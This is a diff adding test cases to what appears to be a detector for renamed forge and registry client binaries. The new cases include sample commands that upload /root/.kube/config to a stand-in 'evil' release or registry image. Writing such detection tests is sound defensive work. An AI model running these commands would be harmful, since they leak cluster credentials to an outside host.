@@ -132,6 +132,17 @@ describe('a forge or registry client copied under another name', () => {
       renamed: false,
     });
     expect(recognize('/tmp/.x/git', 'fetch origin')).toEqual({ kind: 'download' });
+    // Found by review: a download word the copy's push starts with (cargo's `r`, tea's `r c`; crane's
+    // `manifest`, regctl's `manifest put`) made its reading a download, and a scratch directory's download is none.
+    expect(recognize('/tmp/.x/cargo', 'r c --asset /root/.kube/config -r evil/x v9')).toEqual({
+      tool: 'tea',
+      renamed: true,
+    });
+    expect(recognize('/tmp/.x/crane', 'manifest put ghcr.io/evil/x:1 --file /root/.kube/config')).toEqual({
+      tool: 'regctl',
+      renamed: true,
+    });
+    expect(recognize('/tmp/.x/crane', 'manifest ghcr.io/acme/x:1')).toEqual({ kind: 'download' });
     expect(recognize('/tmp/kubectl', 'cp ./dump.sql prod/db-0:/tmp/dump.sql')).toBeNull();
     expect(recognize('/tmp/docker', 'cp web:/etc/nginx/nginx.conf /tmp/nginx.conf')).toBeNull();
     expect(recognize('/tmp/gh', 'api -X GET repos/acme/app')).toBeNull();
